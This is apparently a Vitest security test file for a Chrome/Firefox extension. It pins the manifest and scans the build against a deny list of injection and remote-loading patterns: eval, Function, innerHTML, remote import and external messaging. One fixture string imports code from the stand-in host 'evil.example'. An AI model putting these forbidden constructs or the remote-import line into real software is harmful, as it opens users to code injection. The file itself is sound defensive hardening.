import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { withoutTextAsCode } from '../../scripts/packages/withoutTextAsCode.ts';
import { CHROME_BUILD } from './chromium.ts';
import { FIREFOX_BUILD } from './firefox.ts';

const TEKMATIX = 'https://app.tekmatix.com/*';
const script = (name: string, more: object = {}) => ({ matches: [TEKMATIX], run_at: 'document_idle', js: [`content-scripts/${name}.js`], ...more });

/** All of it: whoever wants one more right, host, script, page or exception changes this list in the open. */
const MANIFEST = {
  manifest_version: 3, name: '__MSG_manifest_name__', short_name: '__MSG_manifest_shortName__', description: '__MSG_manifest_description__', version: expect.stringMatching(/^\d+\.\d+\.\d+$/), default_locale: 'en',
  icons: Object.fromEntries([16, 32, 48, 128].map((size) => [size, `icon/${size}.png`])),
  host_permissions: [TEKMATIX, 'http://127.0.0.1/*', 'http://localhost/*'], optional_host_permissions: ['https://*/*'],
  commands: { _execute_action: { suggested_key: { default: 'Alt+Shift+F', mac: 'MacCtrl+Shift+F' } } },
  action: { default_title: 'iCloud for TekMatix', default_popup: 'popup.html' },
  content_security_policy: { extension_pages: "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src https: http://127.0.0.1:* http://localhost:*; object-src 'none'; frame-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'; trusted-types 'none'" },
  content_scripts: [script('tekmatix'), script('tekmatixPage', { world: 'MAIN' })],
};
const CHROME = {
  ...MANIFEST, permissions: ['storage', 'alarms', 'scripting'], optional_permissions: ['notifications', 'contextMenus'],
  background: { service_worker: 'background.js' }, minimum_chrome_version: '116', key: expect.stringMatching(/^MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A/),
};
const FIREFOX = {
  // Firefox knows menus only as a right from the start, and asks nobody for it.
  ...MANIFEST, permissions: ['storage', 'alarms', 'scripting', 'contextMenus'], optional_permissions: ['notifications'], background: { scripts: ['background.js'] },
  browser_specific_settings: { gecko: { id: 'icloud-for-tekmatix@tekmatix.com', strict_min_version: '142.0', data_collection_permissions: { required: ['authenticationInfo', 'personalCommunications'] } } },
};

/** What would make code or markup of a text, load code from elsewhere, or let others talk to the background. */
const FORBIDDEN: readonly (readonly [string, RegExp])[] = [
  ['innerHTML', /[.?]\s*innerHTML\b|\[\s*[`'"]innerHTML[`'"]\s*\]/], ['other ways to write markup', /\b(?:outerHTML|insertAdjacentHTML|createContextualFragment|setHTMLUnsafe|srcdoc)\b|document\.write(?:ln)?\b/],
  ['eval', /\beval\b/], ['Function as a compiler', /\bFunction\s*[(`]|\bnew\s+Function\b|=\s*Function\b/], ['a text as a timer', /\bset(?:Timeout|Interval)\(\s*[`'"]/], ['scripts of elsewhere', /\bimportScripts\b|\bimport\(\s*[`'"](?!\.{0,2}\/)/],
  ['ears for others', /\bon(?:Message|Connect)External\b|\bonUserScript(?:Message|Connect)\b|runtime\.onConnect\b/], ['storage of the page', /\b(?:local|session)Storage\b|\bindexedDB\b|document\.cookie/],
];
const HOSTS_IN_TAGS = /<(?:script|link|iframe|img|object|embed|base|form)\b[^>]*(?:src|href|action|data)\s*=\s*["']?(?:https?:)?\/\//i;

describe.each([['Chrome', CHROME_BUILD, CHROME], ['Firefox', FIREFOX_BUILD, FIREFOX]] as const)('what is built for %s', (_browser, folder, frozen) => {
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' });
  const read = (file: string): string => readFileSync(join(folder, file), 'utf8');
  const code = files.filter((file) => /\.(?:js|html)$/.test(file));

  it('has this manifest and no other: no page may load or frame a file of ours, nobody else may connect', () => {
    const manifest = JSON.parse(read('manifest.json')) as Record<string, unknown>;
    expect(manifest).toEqual(frozen);
    for (const absent of ['web_accessible_resources', 'externally_connectable', 'sandbox', 'options_ui', 'devtools_page']) expect(manifest).not.toHaveProperty(absent);
  });

  it.each(FORBIDDEN)('has no %s', (_what, pattern) => {
    expect(code.length).toBeGreaterThan(8);
    for (const file of code) expect(pattern.exec(read(file))?.[0], file).toBeUndefined();
  });

  it('loads nothing from elsewhere in its pages, and runs nothing that stands in them', () => {
    const pages = code.filter((file) => file.endsWith('.html'));
    expect(pages.sort()).toEqual(['popup.html', 'settings.html']);
    for (const page of pages) {
      expect(read(page), page).not.toMatch(HOSTS_IN_TAGS);
      expect(read(page), page).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+\s*=|javascript:|<style/i);
      expect(read(page), page).toContain('<meta name="referrer" content="no-referrer">');
    }
    for (const file of files.filter((name) => name.endsWith('.css'))) expect(read(file), file).not.toMatch(/@import|url\(\s*["']?(?:https?:|\/\/)/);
  });

  it('keeps its scripts in TekMatix\'s page away from storage and from the server', () => {
    for (const file of ['content-scripts/tekmatix.js', 'content-scripts/tekmatixPage.js', 'screens.js']) {
      expect(read(file), file).not.toMatch(/storage\s*\.\s*(?:local|session|sync)\b|storage\s*\[|pairing1|access1|\/trpc\b|authorization/);
    }
    // The words that were looked for are those of the script that has them.
    for (const word of ['pairing1', 'access1', '/trpc', 'authorization']) expect(read('background.js')).toContain(word);
  });
});

describe('the patterns find what they are to find', () => {
  it.each([
    'a.innerHTML=b', 'a?.innerHTML', 'a["innerHTML"]=b', 'document.write(x)', 'eval(x)', '(0,eval)(x)', 'new Function(x)', 'Function(``)', 'let e=Function,t=1', 'setTimeout("x")', 'import("https://evil.example/x.js")', 'importScripts("x")',
    'chrome.runtime.onMessageExternal.addListener', 'browser.runtime.onConnect.addListener', 'localStorage.getItem("x")',
  ])('%s', (text) => { expect(FORBIDDEN.filter(([, pattern]) => pattern.test(text))).toHaveLength(1); });

  it.each(['case`innerHTML`:', 'typeof e==`function`', 'isFunction(e)', 'onConnectionStateChange', 'import(`./chunks/a.js`)', 'import("/chunks/a.js")', 'setTimeout(()=>x,1)'])('and not %s', (text) => {
    expect(FORBIDDEN.filter(([, pattern]) => pattern.test(text))).toEqual([]);
  });
});

it('a package that was updated and looks otherwise stops the build instead of slipping through', () => {
  const { transform } = withoutTextAsCode();
  expect(() => transform('const G = Function;', '/x/node_modules/zod/v4/core/doc.js')).toThrow('has changed');
  expect(transform('const F = Function;', 'C:\\x\\node_modules\\zod\\v4\\core\\doc.js?v=1')?.code).not.toContain('= Function');
  expect(transform('const F = Function;', '/x/node_modules/another/doc.js')).toBeUndefined();
});
